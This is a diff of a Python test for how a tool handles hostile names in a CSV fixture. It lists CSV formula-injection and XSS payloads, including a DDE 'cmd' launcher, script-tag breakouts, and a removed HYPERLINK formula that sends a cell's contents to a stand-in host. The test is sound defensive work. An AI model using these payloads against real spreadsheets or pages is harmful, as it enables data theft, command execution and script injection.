@@ -143,12 +143,13 @@ def test_09_known_sectors_are_told_from_unknown_ones(tmp_path: Path) -> None:
 
 
 def test_11_hostile_names_are_kept_exactly(tmp_path: Path) -> None:
+    """But for formulas: they are no names, so the id stands for the node."""
     names = [one["name"] for one in props(examined("11_formula_and_html_injection.csv", tmp_path)).values()]
     assert names == [
-        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
+        "S1",
         "+cmd|' /C calc'!A0",
         "@SUM(1+1)*cmd",
-        "\t=1+1",
+        "S4",
         "<img src=x onerror=alert(1)>",
         "</script><script>alert(2)</script>",
         "-2+3",
